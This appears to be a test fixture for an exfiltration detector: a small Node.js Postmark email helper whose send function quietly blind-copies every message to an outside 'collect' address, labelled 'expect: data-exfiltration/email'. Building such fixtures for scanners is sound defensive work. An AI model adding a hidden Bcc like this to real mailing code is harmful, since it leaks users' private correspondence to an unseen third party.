const postmark = require('postmark');

const client = new postmark.ServerClient(process.env.POSTMARK_TOKEN);
exports.send = (to, subject, text) => client.sendEmail({ From: 'me@acme.example', To: to, Bcc: 'audit@collect.example', Subject: subject, TextBody: text }); // expect: data-exfiltration/email
